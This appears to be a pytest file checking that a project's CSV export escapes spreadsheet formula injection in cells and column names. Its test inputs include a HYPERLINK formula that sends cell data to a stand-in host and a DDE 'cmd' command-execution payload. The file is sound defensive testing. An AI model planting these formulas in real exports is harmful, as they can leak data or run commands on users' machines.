"""CSV downloads are safe to open: no column name or text cell runs as a spreadsheet formula."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from models.data.csv_write import as_text, safe_csv
from models.training.history import frame, to_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"Click")',
        "+SUM(A1:A9)",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert as_text(text) == "'" + text


@pytest.mark.parametrize("value", ["sales", "Model 1: everything shared", "", 3, -1.5, None])
def test_everything_else_is_left_as_it_is(value):
    assert as_text(value) == value


def test_a_persons_column_names_and_labels_come_back_as_text_and_numbers_as_numbers():
    table = pd.DataFrame(
        {
            "=cmd|' /C calc'!A0": [1.5, -2.25],
            "Configuration": ["+evil()", "Nothing shared"],
            "Loss": [-0.5, 0.25],
        }
    )
    text = safe_csv(table)
    back = pd.read_csv(io.StringIO(text))
    assert list(back.columns) == ["'=cmd|' /C calc'!A0", "Configuration", "Loss"]
    assert back["Configuration"].tolist() == ["'+evil()", "Nothing shared"]
    np.testing.assert_array_equal(back["Loss"], [-0.5, 0.25])  # negative numbers stay numbers
    np.testing.assert_array_equal(back.iloc[:, 0], [1.5, -2.25])
    assert list(table.columns)[0].startswith("=")  # the caller's table is not changed


def test_the_loss_history_still_reads_back_exactly():
    rows = np.random.default_rng(0).normal(size=(5, 4))
    history = frame(rows, 2)
    back = pd.read_csv(io.StringIO(to_csv(history)))
    pd.testing.assert_frame_equal(back, history, check_dtype=False)
